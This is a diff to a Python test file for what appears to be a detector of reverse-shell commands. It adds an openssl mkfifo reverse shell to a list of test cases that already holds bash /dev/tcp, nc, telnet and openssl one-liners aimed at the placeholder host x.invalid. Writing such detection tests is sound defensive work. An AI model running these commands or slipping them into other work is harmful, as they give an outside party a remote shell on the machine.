@@ -149,6 +149,7 @@ def test_attack_a_command_in_binary_data_is_found_on_its_line(odd, nul):
         *("bash </dev/tcp/x.invalid/1", "sh 0<& /dev/tcp/x.invalid/1", "exec {f}<>/dev/tcp/x.invalid/1"),
         *("cat f | sh -i 2>&1 | nc x.invalid 1", "telnet x.invalid 1 | /bin/sh | telnet x.invalid 2"),
         "openssl s_client -quiet -connect x.invalid:1 | sh",
+        "mkfifo f; sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect x.invalid:1 > /tmp/f",
     ],
 )
 def test_attack_a_reverse_shell_of_another_program_is_found(command):
